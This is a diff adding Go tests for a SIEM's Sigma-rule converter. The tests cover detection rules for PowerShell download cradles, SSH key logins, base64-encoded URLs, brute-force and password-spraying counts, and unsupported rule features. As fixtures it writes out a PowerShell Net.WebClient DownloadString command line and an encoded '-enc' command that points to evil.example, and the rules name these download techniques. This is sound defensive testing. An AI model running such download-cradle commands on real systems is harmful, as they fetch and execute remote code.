@@ -0,0 +1,284 @@
+package sigma_test
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/libyan-cooperation-org/OBLIVRA-Sovereign-SIEM-/internal/detection"
+	"github.com/libyan-cooperation-org/OBLIVRA-Sovereign-SIEM-/internal/detection/sigma"
+	"github.com/libyan-cooperation-org/OBLIVRA-Sovereign-SIEM-/pkg/models"
+)
+
+func convertOne(t *testing.T, doc string) *sigma.Result {
+	t.Helper()
+	results, err := sigma.Convert([]byte(doc), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(results) != 1 {
+		t.Fatalf("got %d results, want 1", len(results))
+	}
+	return results[0]
+}
+
+func condition(t *testing.T, r *sigma.Result) detection.Condition {
+	t.Helper()
+	if !r.Report.Converted {
+		t.Fatalf("not converted: %v", r.Report.Errors)
+	}
+	var c detection.Condition
+	if err := json.Unmarshal([]byte(r.Rule.Condition), &c); err != nil {
+		t.Fatal(err)
+	}
+	return c
+}
+
+func process(image, cmd string) *models.Event {
+	return &models.Event{Source: "sysmon", Category: "Process_Create", Host: "ws-01",
+		Fields: map[string]interface{}{"image": image, "command_line": cmd}}
+}
+
+const downloadCradle = `
+title: PowerShell Download Cradle
+id: 3b6ab547-8ec2-4991-b9d2-2b06702a48d7
+status: experimental
+level: high
+tags:
+  - attack.execution
+  - attack.t1059.001
+  - attack.t1105
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection_img:
+    Image|endswith:
+      - '\powershell.exe'
+      - '\pwsh.exe'
+  selection_cli:
+    CommandLine|contains|all:
+      - 'Net.WebClient'
+      - 'DownloadString'
+  filter_admin:
+    CommandLine|contains: '\\fileserver\admin\'
+  condition: all of selection_* and not filter_admin
+`
+
+func TestConvert(t *testing.T) {
+	r := convertOne(t, downloadCradle)
+	c := condition(t, r)
+	rec := r.Rule
+	if rec.ID != "sigma-3b6ab547-8ec2-4991-b9d2-2b06702a48d7" || rec.Severity != "high" || !rec.Enabled {
+		t.Errorf("rule = %+v", rec)
+	}
+	if rec.MITRE != "T1059.001" {
+		t.Errorf("MITRE = %q, want T1059.001", rec.MITRE)
+	}
+	if len(r.Report.Warnings) != 1 || !strings.Contains(r.Report.Warnings[0], "T1105") {
+		t.Errorf("warnings = %v, want the dropped technique", r.Report.Warnings)
+	}
+
+	m := detection.NewMatcher()
+	for _, tt := range []struct {
+		name string
+		ev   *models.Event
+		want bool
+	}{
+		{"match", process(`C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe`,
+			`powershell -c (New-Object Net.WebClient).downloadstring('http://x')`), true},
+		{"other image", process(`C:\Windows\System32\cmd.exe`, `Net.WebClient DownloadString`), false},
+		{"one of all", process(`C:\pwsh.exe`, `Net.WebClient`), false},
+		{"filtered", process(`C:\pwsh.exe`, `Net.WebClient DownloadString \\fileserver\admin\a.ps1`), false},
+		{"other category", &models.Event{Category: "Network_Connect",
+			Fields: map[string]interface{}{"image": `C:\pwsh.exe`, "command_line": `Net.WebClient DownloadString`}}, false},
+	} {
+		if got := m.Matches(tt.ev, c); got != tt.want {
+			t.Errorf("%s: Matches = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestConvertModifiers(t *testing.T) {
+	r := convertOne(t, `
+title: Modifiers
+logsource:
+  service: sshd
+  product: linux
+detection:
+  keywords:
+    - 'Accepted publickey'
+  net:
+    SourceIp|cidr: 10.0.0.0/8
+  port:
+    DestinationPort|gte: 1024
+  path:
+    TargetFilename: '/home/*/.ssh/authorized_key?'
+  nouser:
+    User: null
+  condition: keywords and net and (port or path) and not nouser
+`)
+	c := condition(t, r)
+	m := detection.NewMatcher()
+	ev := func(msg string, fields map[string]interface{}) *models.Event {
+		return &models.Event{Source: "sshd", User: "alice", Message: msg, Fields: fields}
+	}
+	for _, tt := range []struct {
+		name string
+		ev   *models.Event
+		want bool
+	}{
+		{"port", ev("ACCEPTED PUBLICKEY for alice", map[string]interface{}{"src_ip": "10.2.3.4", "dest_port": 2222}), true},
+		{"path", ev("Accepted publickey", map[string]interface{}{"src_ip": "10.2.3.4", "dest_port": 22,
+			"target_filename": "/home/bob/.ssh/authorized_keys"}), true},
+		{"low port", ev("Accepted publickey", map[string]interface{}{"src_ip": "10.2.3.4", "dest_port": 22}), false},
+		{"outside cidr", ev("Accepted publickey", map[string]interface{}{"src_ip": "192.168.1.1", "dest_port": 2222}), false},
+		{"keyword", ev("Accepted password", map[string]interface{}{"src_ip": "10.2.3.4", "dest_port": 2222}), false},
+	} {
+		if got := m.Matches(tt.ev, c); got != tt.want {
+			t.Errorf("%s: Matches = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+	noUser := ev("Accepted publickey", map[string]interface{}{"src_ip": "10.2.3.4", "dest_port": 2222})
+	noUser.User = ""
+	if m.Matches(noUser, c) {
+		t.Error("matched an event without a user")
+	}
+}
+
+func TestConvertBase64Offset(t *testing.T) {
+	c := condition(t, convertOne(t, `
+title: Encoded URL
+logsource:
+  category: process_creation
+detection:
+  selection:
+    CommandLine|base64offset|contains: 'http://'
+  condition: selection
+`))
+	m := detection.NewMatcher()
+	for _, prefix := range []string{"", "a", "ab", "abc"} {
+		enc := base64.StdEncoding.EncodeToString([]byte(prefix + "http://evil.example/x"))
+		if !m.Matches(process(`C:\ps.exe`, "-enc "+enc), c) {
+			t.Errorf("prefix %q: encoded URL not matched", prefix)
+		}
+	}
+	if m.Matches(process(`C:\ps.exe`, "-enc "+base64.StdEncoding.EncodeToString([]byte("ftp://evil"))), c) {
+		t.Error("matched an encoding without the URL")
+	}
+}
+
+func TestConvertAggregation(t *testing.T) {
+	r := convertOne(t, `
+title: SSH Brute Force
+logsource:
+  product: linux
+  service: sshd
+detection:
+  selection:
+    - 'Failed password'
+    - 'Invalid user'
+  timeframe: 5m
+  condition: 1 of selection | count() by SourceIp > 5
+`)
+	condition(t, r)
+	if r.Rule.Threshold != 6 || r.Rule.Window != 300 {
+		t.Errorf("threshold %d window %d, want 6 within 300s", r.Rule.Threshold, r.Rule.Window)
+	}
+	if a := aggregate(t, r); a.Function != "" && a.Function != detection.AggCount || !slices.Equal(a.GroupBy, []string{"src_ip"}) {
+		t.Errorf("aggregate = %+v, want count by src_ip", a)
+	}
+	if len(r.Report.Warnings) != 0 {
+		t.Errorf("warnings = %v", r.Report.Warnings)
+	}
+
+	r = convertOne(t, `
+title: Password Spraying
+logsource:
+  product: linux
+  service: sshd
+detection:
+  selection: 'Failed password'
+  timeframe: 10m
+  condition: selection | count(User) by SourceIp >= 20
+`)
+	a := aggregate(t, r)
+	if a.Function != detection.AggDistinctCount || a.Field != "user" || !slices.Equal(a.GroupBy, []string{"src_ip"}) {
+		t.Errorf("aggregate = %+v, want distinct_count(user) by src_ip", a)
+	}
+	if r.Rule.Threshold != 20 || r.Rule.Window != 600 {
+		t.Errorf("threshold %d window %d, want 20 within 600s", r.Rule.Threshold, r.Rule.Window)
+	}
+}
+
+func aggregate(t *testing.T, r *sigma.Result) *detection.Aggregate {
+	t.Helper()
+	if !r.Report.Converted {
+		t.Fatalf("not converted: %v", r.Report.Errors)
+	}
+	var rc detection.RuleCondition
+	if err := json.Unmarshal([]byte(r.Rule.Condition), &rc); err != nil {
+		t.Fatal(err)
+	}
+	if rc.Aggregate == nil {
+		t.Fatal("no aggregate")
+	}
+	return rc.Aggregate
+}
+
+func TestConvertReportsUnsupported(t *testing.T) {
+	results, err := sigma.Convert([]byte(`
+title: Near
+logsource: {category: process_creation}
+detection:
+  a: {Image: x}
+  b: {Image: y}
+  timeframe: 1m
+  condition: a | near b
+---
+title: Windash
+logsource: {category: process_creation}
+detection:
+  selection:
+    CommandLine|windash|contains: -enc
+  condition: selection
+---
+title: Fewer Than
+logsource: {category: process_creation}
+detection:
+  selection: {Image: x}
+  timeframe: 1h
+  condition: selection | count() by Computer < 10
+---
+title: Missing Selection
+logsource: {category: process_creation}
+detection:
+  selection: {Image: x}
+  condition: selection and filter
+---
+title: Fine
+logsource: {category: process_creation}
+detection:
+  selection: {Image: x}
+  condition: selection
+`), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(results) != 5 {
+		t.Fatalf("got %d results, want 5", len(results))
+	}
+	for _, r := range results[:4] {
+		if r.Report.Converted || r.Rule != nil || len(r.Report.Errors) == 0 {
+			t.Errorf("%s: report %+v, want errors", r.Report.Title, r.Report)
+		}
+	}
+	if !strings.Contains(results[1].Report.Errors[0], `modifier "windash"`) {
+		t.Errorf("windash error = %v", results[1].Report.Errors)
+	}
+	if !results[4].Report.Converted {
+		t.Errorf("valid rule not converted: %v", results[4].Report.Errors)
+	}
+}